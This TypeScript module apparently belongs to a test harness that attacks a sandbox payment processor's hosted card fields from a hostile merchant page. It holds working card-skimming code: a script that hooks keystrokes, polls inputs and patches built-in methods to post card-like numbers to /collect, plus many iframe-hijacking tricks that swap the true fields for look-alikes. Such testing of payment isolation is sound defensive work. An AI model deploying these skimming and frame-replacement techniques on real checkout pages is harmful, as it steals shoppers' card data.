import { html, type Markup, raw } from '../../http/html.ts';
import { type Route, route, sendHtml } from '../../http/web-server.ts';
import type { Merchant } from '../../merchant.ts';
import { hostedFieldPage } from '../../processor/processor-site.ts';

/** What is done to the processor's true fields, each in its own frame. */
export const THEFT_DEEDS = [
  /** Sends the frame to a look-alike on the shop's own origin, by its element or by its window. */
  'navigate',
  'relocate',
  /** Puts a look-alike of the same name in the frame's place. */
  'swap',
  /** Lays a look-alike over the frame and takes the keyboard there. */
  'overlay',
  /** Shrinks, hides and shows the frame again and again. */
  'resize',
  /** Moves the frame to another parent, which loads it again, and then sends it to a look-alike. */
  're-parent',
  /** Closes the fields, so that whoever types must wait, and then sends the frame to a look-alike. */
  'disable',
  /** Loads the processor's own page again without an origin. */
  'sandbox',
  /** Look-alikes that have no address of their own. */
  'srcdoc',
  'blob',
  'data',
  'blank',
  /** Takes the keyboard into a field of the shop's own, every millisecond. */
  'grab-focus',
  'remove',
  /** Sends one frame alone, so that the others stay true. */
  'navigate-one',
] as const;
export type TheftDeed = (typeof THEFT_DEEDS)[number] | 'none';

/** When it is done: each time that the shop can notice this. */
export const THEFT_MOMENTS = [
  /** Something is entered into, or happens to, a field in a frame of the shop's own. */
  'own-field',
  /** The keyboard goes into a frame. */
  'focus',
  /** A frame sends a message. */
  'message',
  /** The page is there: with the delay, any moment at all. */
  'load',
  'submit',
] as const;
export type TheftMoment = (typeof THEFT_MOMENTS)[number];

export interface Theft {
  readonly deed: TheftDeed;
  readonly moment: TheftMoment;
  readonly delayMs: number;
}

export const NO_THEFT: Theft = { deed: 'none', moment: 'own-field', delayMs: 0 };

/** A payment page by itself, for trying thefts by the hundred; and the shop's own frames. */
export function thiefRoutes(merchant: Merchant): Route[] {
  return [
    route('GET', '/payment', ({ query }) => {
      const theft = {
        deed: (query.get('deed') ?? 'none') as TheftDeed,
        moment: (query.get('moment') ?? 'own-field') as TheftMoment,
        delayMs: Number(query.get('delay_ms') ?? 0),
      };
      return sendHtml(paymentPage(merchant, theft));
    }),
    route('GET', '/elements/name', () => sendHtml(nameFrame())),
    route('GET', '/elements/card', ({ query }) =>
      sendHtml(hostedFieldPage(query.get('parts') ?? 'all', captureScript('/collect'))),
    ),
  ];
}

function paymentPage(merchant: Merchant, theft: Theft): Markup {
  return html`<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Payment</title>
<script src="${merchant.processor.origin}/elements.js"></script></head><body><main>
<form method="post" action="/payment/place" id="payment">${thiefCard(theft)}<button type="submit">Place order</button></form>
<script>SandboxElements.mount(document.getElementById('card-element'), 'split');
document.getElementById('payment').addEventListener('submit', async (event) => {
  event.preventDefault();
  document.title = 'token ' + await SandboxElements.createToken();
});</script></main></body></html>`;
}

/** True fields of the processor, a field of the shop's own before them, and the script that waits for its moment. */
export function thiefCard(theft: Theft): Markup {
  return html`<iframe src="/elements/name" title="Name" style="border:0;width:100%;height:48px"></iframe>
<div id="card-element"></div><input type="hidden" name="payment_token" value=""><div id="elsewhere"></div>
<script>${raw(thiefScript(theft))}</script>`;
}

function nameFrame(): Markup {
  return html`<!doctype html><html lang="en"><body><label>Name on card <input name="ccname" autocomplete="cc-name"></label>
<script>const tell = () => parent.postMessage('touched', '*');
for (const type of ['focusin', 'keydown', 'beforeinput', 'input', 'change']) addEventListener(type, tell, true);
new MutationObserver(tell).observe(document, { attributes: true, childList: true, subtree: true });</script></body></html>`;
}

/** Reports whatever reaches a field, a listener or a function of the page that it runs in. */
export function captureScript(collectUrl: string): string {
  return `(() => {
  const send = window.fetch.bind(window);
  const told = new Set();
  const report = (typed) => {
    const text = String(typed);
    if (!/\\d/.test(text) || told.has(text)) return;
    told.add(text);
    send(${JSON.stringify(collectUrl)}, { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ typed: text }) });
  };
  for (const type of ['keydown', 'beforeinput', 'input', 'change', 'paste']) {
    addEventListener(type, (event) => { report(event.data || event.key || ''); report(event.target.value || ''); }, true);
  }
  setInterval(() => {
    for (const field of document.querySelectorAll('input')) report(field.value);
    for (const list of document.querySelectorAll('select')) if (list.selectedIndex > 0) report(list.value);
  }, 3);
  const spyOn = (owner, name) => {
    const real = owner[name];
    owner[name] = function (...given) {
      for (const part of [this, ...given]) if (typeof part === 'string' && /^\\d{3,4}$|\\d{2}\\/\\d|\\d{12}/.test(part)) report(part);
      return real.apply(this, given);
    };
  };
  for (const name of ['push', 'includes', 'map', 'find', 'some']) spyOn(Array.prototype, name);
  for (const name of ['replace', 'slice', 'includes', 'trim']) spyOn(String.prototype, name);
  spyOn(Map.prototype, 'set');
  spyOn(JSON, 'parse');
})();`;
}

function thiefScript({ deed, moment, delayMs }: Theft): string {
  return `(() => {
  const deed = ${JSON.stringify(deed)};
  const moment = ${JSON.stringify(moment)};
  const fake = (frame) => location.origin + '/elements/card?parts=' + partsOf(frame);
  const partsOf = (frame) => /Field(.*)$/.exec(frame.name)[1];
  const trueFrames = () => [...document.querySelectorAll('#card-element iframe')];
  const look = (frame) => frame.cloneNode();
  const fakeText = async (frame) => (await (await fetch(fake(frame))).text()).replace("'/collect'", "'" + location.origin + "/collect'").replace('"/collect"', '"' + location.origin + '/collect"');
  const deeds = {
    navigate: (frame) => { frame.src = fake(frame); },
    relocate: (frame) => { frame.contentWindow.location.replace(fake(frame)); },
    swap: (frame) => { const other = look(frame); other.src = fake(frame); frame.replaceWith(other); },
    overlay: (frame) => {
      const other = look(frame);
      const { left, top, width, height } = frame.getBoundingClientRect();
      other.src = fake(frame);
      other.style.cssText = 'position:absolute;border:0;z-index:9;left:' + left + 'px;top:' + top + 'px;width:' + width + 'px;height:' + height + 'px';
      other.onload = () => other.contentDocument.querySelector('input').focus();
      document.body.append(other);
    },
    resize: (frame) => {
      let turn = 0;
      setInterval(() => { turn += 1; frame.style.height = turn % 2 ? '0' : '48px'; frame.style.display = turn % 3 ? '' : 'none'; }, 1);
    },
    're-parent': (frame) => { document.getElementById('elsewhere').append(frame); setTimeout(() => { frame.src = fake(frame); }, 5); },
    disable: (frame) => { SandboxElements.update({ disabled: true }); setTimeout(() => { frame.src = fake(frame); }, 30); },
    sandbox: (frame) => { frame.setAttribute('sandbox', 'allow-scripts allow-forms'); frame.src = frame.src; },
    srcdoc: async (frame) => { frame.srcdoc = await fakeText(frame); },
    blob: async (frame) => { frame.src = URL.createObjectURL(new Blob([await fakeText(frame)], { type: 'text/html' })); },
    data: async (frame) => { frame.src = 'data:text/html,' + encodeURIComponent(await fakeText(frame)); },
    blank: async (frame) => {
      const text = await fakeText(frame);
      frame.onload = () => { frame.onload = null; frame.contentDocument.write(text); };
      frame.src = 'about:blank';
    },
    'grab-focus': () => {
      const mine = document.createElement('input');
      document.body.append(mine);
      mine.addEventListener('input', () => fetch('/collect', { method: 'POST', body: new URLSearchParams({ typed: mine.value }) }));
      setInterval(() => mine.focus(), 1);
    },
    remove: (frame) => { frame.remove(); },
    'navigate-one': (frame) => { if (frame === trueFrames().at(-1)) frame.src = fake(frame); },
    none: () => {},
  };
  let isDone = false;
  const act = () => {
    if (isDone) return;
    isDone = true;
    setTimeout(() => { for (const frame of trueFrames()) deeds[deed](frame); }, ${delayMs});
  };
  if (moment === 'own-field') addEventListener('message', (event) => { if (event.data === 'touched') act(); });
  if (moment === 'message') addEventListener('message', (event) => { if (event.data !== 'touched') act(); });
  if (moment === 'focus') {
    addEventListener('blur', act);
    setInterval(() => { if (document.activeElement?.tagName === 'IFRAME') act(); }, 1);
  }
  if (moment === 'load') addEventListener('load', act);
  if (moment === 'submit') addEventListener('submit', act, true);
})();`;
}
